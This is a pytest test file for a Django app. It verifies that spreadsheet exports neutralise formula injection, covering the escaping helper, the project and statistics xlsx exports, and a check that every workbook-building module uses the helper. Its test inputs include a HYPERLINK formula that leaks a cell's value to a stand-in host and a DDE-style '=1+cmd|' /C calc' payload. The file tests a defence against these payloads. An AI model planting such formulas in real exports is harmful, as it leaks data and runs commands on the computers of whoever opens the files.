"""Finding 2: spreadsheet formula injection. Every export writes text as text, neutralised."""

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from config.exports import neutralize, xlsx_row
from stats import services as stats_services
from tests.factories import ProjectFactory, RegionFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Salt chemicals", "Salt chemicals"),
        ("", ""),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def _cells(data: bytes):
    """Every cell of the workbook, as openpyxl reads it back (type and value)."""
    wb = load_workbook(BytesIO(data))
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def test_helper_keeps_numbers_and_dates_and_writes_text_as_string():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append(xlsx_row(ws, [EVIL, -5, Decimal("-1.5"), dt.date(2026, 1, 2), None, "#N/A"]))
    out = BytesIO()
    wb.save(out)
    cells = _cells(out.getvalue())
    assert [c.data_type for c in cells] == ["s", "n", "n", "d", "s"]
    assert cells[0].value == "'" + EVIL
    assert cells[1].value == -5
    assert cells[2].value == -1.5
    assert cells[4].value == "#N/A"


def test_project_export_writes_a_formula_name_as_text(client, district_user, region_a):
    ProjectFactory(region=region_a, name_en=EVIL, name_zh_hans="@cmd")
    client.force_login(district_user)
    for lang, name in (("en", EVIL), ("zh-hans", "@cmd")):
        resp = client.get(f"/{lang}/staff/projects/export.xlsx")
        cells = _cells(resp.content)
        assert not [c for c in cells if c.data_type == "f"]
        assert "'" + name in [c.value for c in cells]
    assert b"<f>" not in resp.content


def test_stats_export_writes_a_formula_region_name_as_text(client, bureau_user, approve):
    region = RegionFactory(name_en="=1+cmd|' /C calc'!A0", name_zh_hans="+区")
    approve(dt.date(2026, 9, 3), region=region, total="100", fdi="10")
    run = stats_services.stats_run_create(user=bureau_user, year=2026, month=9)
    stats_services.stats_run_execute(run_id=run.pk)
    client.force_login(bureau_user)
    resp = client.get("/en/staff/stats/export.xlsx?period=2026-09")
    assert resp.status_code == 200
    cells = _cells(resp.content)
    assert not [c for c in cells if c.data_type == "f"]
    assert "'=1+cmd|' /C calc'!A0" in [c.value for c in cells]


def test_every_export_module_uses_the_helper():
    """One helper for every export, later ones included: a module that builds a workbook
    writes its cells through config.exports."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if (
            rel.startswith((".venv/", "tests/", "bench/", "config/exports.py"))
            or "/migrations/" in rel
        ):
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text and "config.exports" not in text:
            offenders.append(rel)
    assert offenders == [], f"build rows with config.exports.xlsx_row in: {offenders}"
